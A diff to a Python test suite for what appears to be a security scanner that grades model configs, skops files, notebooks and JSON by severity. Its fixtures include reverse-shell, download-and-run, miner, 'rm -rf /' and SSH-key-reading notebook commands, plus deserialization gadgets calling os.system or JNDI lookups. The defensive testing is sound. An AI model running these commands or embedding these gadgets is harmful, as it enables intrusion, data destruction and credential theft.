@@ -23,6 +23,8 @@ HOSTILE_CONFIGS = {
     "modules.json in the library of another": [{"idx": 0, "name": "0", "path": "", "type": "subprocess.Popen"}],
     "adapter": {"auto_mapping": {"base_model_class": "system", "parent_library": "os"}},
     "shards": {"metadata": {}, "weight_map": {"a": "../../x.safetensors"}},
+    "expression": {"imports": ["$import glob"], "x": "$__import__('os').system('id')"},
+    "class path": {"model": {"class_path": "os.system", "init_args": {}}},
     "padded": {"x": " " * 9000, "auto_map": {"AutoModel": "e/r--m.M"}},
 }
 ORDINARY_CONFIGS = (
@@ -30,7 +32,7 @@ ORDINARY_CONFIGS = (
         "architectures": ["LlamaForCausalLM"],
         "model_type": "llama",
         "torch_dtype": "bfloat16",
-        "_name_or_path": "/home/x/model",
+        "_name_or_path": "models/x",
         "vocab_size": 32000,
     },
     {"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"]},
@@ -83,8 +85,12 @@ def skops(loader: str, module: str, name: str, **more: Any) -> str:
         skops("OperatorFuncNode", "operator", "methodcaller", attrs={"content": ["system"]}),
         skops("OperatorFuncNode", "builtins", "eval"),
         skops("OperatorFuncNode", "operator", "attrgetter"),
-        skops("MethodNode", "sklearn.linear_model", "LogisticRegression",
-              content={"func": "system", "obj": {"__class__": "X", "__module__": "os", "__loader__": "ObjectNode"}}),
+        skops(
+            "MethodNode",
+            "sklearn.linear_model",
+            "LogisticRegression",
+            content={"func": "system", "obj": {"__class__": "X", "__module__": "os", "__loader__": "ObjectNode"}},
+        ),
         skops("MethodNode", "builtins", "method", content={"func": "__globals__", "obj": {}}),
         skops("FunctionNode", "builtins", "function", content={"module_path": "os", "function": "system"}),
         skops("FunctionNode", "os", "system"),
@@ -95,7 +101,7 @@ def skops(loader: str, module: str, name: str, **more: Any) -> str:
         skops("ObjectNode", "http.server", "HTTPServer"),
         skops("ObjectNode", "builtins", "getattr"),
     ],
-)  # fmt: skip
+)
 def test_skops_nodes_outside_what_is_trusted_are_grave(text: str, worst: Callable[..., int]) -> None:
     assert worst(text) >= Severity.HIGH  # CVE-2025-54412, CVE-2025-54413
 
@@ -135,6 +141,10 @@ def notebook(source: str = "", *, output: dict[str, Any] | None = None, kind: st
         notebook("!nc -e /bin/sh h 9"),
         notebook("!echo aWQ= | base64 -d | sh"),
         notebook("!rm -rf /"),
+        notebook("!wget http://h/x.sh && bash x.sh"),
+        notebook("!chmod +x miner; ./miner"),
+        notebook("exec(requests.get(u).text)"),
+        notebook("import pickle\npickle.loads(base64.b64decode(x))"),
         notebook("!cat ~/.ssh/id_rsa"),
         notebook("import base64\nexec(base64.b64decode('aWQ='))"),
         notebook("exec(zlib.decompress(x))"),
@@ -186,3 +196,35 @@ def test_json_that_nests_without_end_or_counts_without_end_is_told(worst: Callab
 
 def test_packed_bytes_in_a_source_line_are_no_pickle(worst: Callable[..., int]) -> None:
     assert worst(notebook("x = '" + base64.b64encode(zlib.compress(b"a" * 99)).decode() + "'")) == 0
+
+
+@pytest.mark.parametrize(
+    "node",
+    [
+        {"py/object": "os.system"},
+        {"py/reduce": [{"py/function": "builtins.exec"}, {"py/tuple": ["1"]}]},
+        {"py/repr": "os/os.system"},
+        {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"},
+        {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://h/x"},
+        {"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {}},
+    ],
+)
+def test_json_that_a_library_turns_into_objects_is_grave(node: dict[str, Any], worst: Callable[..., int]) -> None:
+    assert worst(json.dumps({"a": [node]})) >= Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "node",
+    [
+        {"@type": "Person", "@context": "https://schema.org"},
+        {"lc": 1, "type": "constructor", "id": ["langchain", "schema", "messages", "HumanMessage"]},
+        {"py/object": "project.settings.Settings"},
+        {"class": "container", "$type": "x"},
+    ],
+)
+def test_json_objects_of_ordinary_kinds_are_at_most_low(node: dict[str, Any], worst: Callable[..., int]) -> None:
+    assert worst(json.dumps({"a": [node]})) <= Severity.LOW
+
+
+def test_a_notebook_that_runs_a_script_from_elsewhere_is_grave(worst: Callable[..., int]) -> None:
+    assert worst(notebook("%run https://h/x.py")) == Severity.HIGH
